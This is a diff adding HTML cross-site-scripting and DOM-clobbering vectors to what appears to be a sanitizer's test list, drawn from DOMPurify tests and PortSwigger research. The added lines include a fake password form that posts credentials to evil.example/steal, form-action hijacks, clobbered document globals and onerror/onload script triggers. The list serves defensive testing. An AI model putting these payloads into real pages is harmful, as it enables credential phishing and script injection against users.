@@ -129,6 +129,20 @@ export const XSS_VECTORS: readonly (readonly [name: string, html: string])[] = [
   ['comment dashes', '<!-- -- --><img src=x onerror=alert(1)>'],
   ['bogus comment', '<? foo="><script>alert(1)</script>">'],
   ['cdata in html', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
+  // forms and DOM clobbering (DOMPurify's SANITIZE_DOM / SANITIZE_NAMED_PROPS tests, PortSwigger's
+  // DOM clobbering research): harmless to a sanitizer that only counts scripts, harmful to a page
+  ['password form', '<form action="https://evil.example/steal" method="post"><input type="text" name="user" autofocus><input type="password" name="pass"><button>Log in</button></form>'],
+  ['form in a form', '<form action="https://a.example/"><form action="https://evil.example/"><input name="x"></form></form>'],
+  ['form attribute', '<input form="search" name="q" value="injected"><button form="search" formaction="https://evil.example/">x</button>'],
+  ['clobber document.body', '<img name="body" src="x">'],
+  ['clobber document.cookie', '<img name="cookie" src="x"><form name="cookie"></form>'],
+  ['clobber document.forms', '<img name="forms"><embed name="forms">'],
+  ['clobber getElementById', '<img name="getElementById"><img id="getElementById">'],
+  ['clobber window global by id', '<a id="CONFIG" href="https://evil.example/">x</a><a id="CONFIG" name="url" href="https://evil.example/">y</a>'],
+  ['clobber form.attributes', '<form id="f"><input name="attributes"><input id="parentNode"></form>'],
+  ['clobber through object', '<object name="defaultView" data="x"></object>'],
+  ['editable overlay', '<div contenteditable="true" tabindex="0" accesskey="x">type here</div>'],
+  ['select and textarea', '<select name="card" autofocus><option>a</option></select><textarea name="comment"></textarea>'],
   // feedparser test feeds
   ['crazy', '<body notRealAttribute="value"onload="executeMe();"foo="bar"\n\n>\n<!-- <script> -->\n</script>\n<script\n\n\n>function executeMe(){alert(1)}</script\n\n\n>\n<h1>Did The Javascript Execute?</h1><div notRealAttribute="value\n"onmouseover="\nexecuteMe();\n"foo="bar">x</div>'],
   ['applet', 'safe<applet code="foo.class" codebase="http://example.com/"></applet> description'],
